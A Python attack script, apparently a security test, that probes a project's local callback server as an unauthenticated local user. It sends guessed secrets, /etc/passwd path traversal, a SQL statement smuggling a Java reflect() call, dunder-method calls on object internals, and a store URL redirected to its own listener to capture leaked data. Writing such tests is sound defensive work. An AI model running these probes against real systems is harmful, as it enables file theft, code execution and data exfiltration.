"""What another local user can do to a driver: `python attack.py PORT SESSION PROXY ...`.

Talks to the callback server without any secret, and knows nothing of this project's modules. Prints
a JSON object: what each call was answered (null if the connection was closed), and what a listener
got that the driver was told to use as its store.
"""

import base64
import json
import socket
import struct
import sys
import threading


def main(port, session, *proxies):
    got = []
    listener = socket.create_server(("127.0.0.1", 0))
    threading.Thread(target=listen, args=(listener, got), daemon=True).start()
    url = f"opensearch://127.0.0.1:{listener.getsockname()[1]}"
    header = {
        "version": 1,
        "lengths": [],
        "op": "pruned",
        "table": "a\nb\nc",
        "settings": {"spark.skipping.store": url},
        "filters": {"op": "unknown", "why": "x"},
    }
    secrets = ("", "0" * 64, "f" * 64, "\u00e9" * 64, "x" * 63)
    statement = (
        "CREATE SKIPPING INDEX ON attacked (id MIN_MAX) WHERE "
        "reflect('java.lang.System', 'setProperty', 'attacked', '1') IS NULL OR id >= 0"
    )
    calls = [
        ("apply", data(header)),
        ("apply", data({**header, "op": "indexed"})),
        ("apply", text("/etc/passwd")),
        *(("apply", text(secret + "0 9000000"), data(header)) for secret in secrets),
        *(("apply", text(secret + "0 9000000"), text("../../etc/passwd")) for secret in secrets),
        *(("apply", text(secret + statement), "r" + session) for secret in secrets),
        *(("apply", text(secret + "SHOW SKIPPING INDEXES"), "n") for secret in secrets),
        ("apply", "i7", "n"),
        ("apply",),
        ("__getattribute__", text("_attributes")),
        ("__getattribute__", text("apply")),
        ("__setattr__", text("_sealed"), "bfalse"),
        ("__init__", text("0" * 64), "n"),
        ("__class__",),
        ("__reduce_ex__", "i2"),
        ("_attributes",),
        ("Java",),
    ]
    answers = [[proxy, part[0], call(port, proxy, *part)] for proxy in proxies for part in calls]
    print(json.dumps({"answers": answers, "got": [part.decode("latin-1") for part in got]}))


def listen(listener, got):
    while True:
        connection, _ = listener.accept()
        got.append(connection.recv(65536))
        connection.close()


def call(port, proxy, method, *arguments):
    with socket.create_connection(("127.0.0.1", int(port)), timeout=20) as connection:
        lines = ("c", proxy, method, *arguments, "e", "")
        try:
            connection.sendall("\n".join(lines).encode())
            return connection.makefile("rb").readline().decode() or None
        except ConnectionError:
            return None


def data(header):
    head = json.dumps(header).encode()
    return "j" + base64.b64encode(struct.pack("<i", len(head)) + head).decode()


def text(value):
    return "s" + value.replace("\\", "\\\\").replace("\n", "\\n")


if __name__ == "__main__":
    main(*sys.argv[1:])
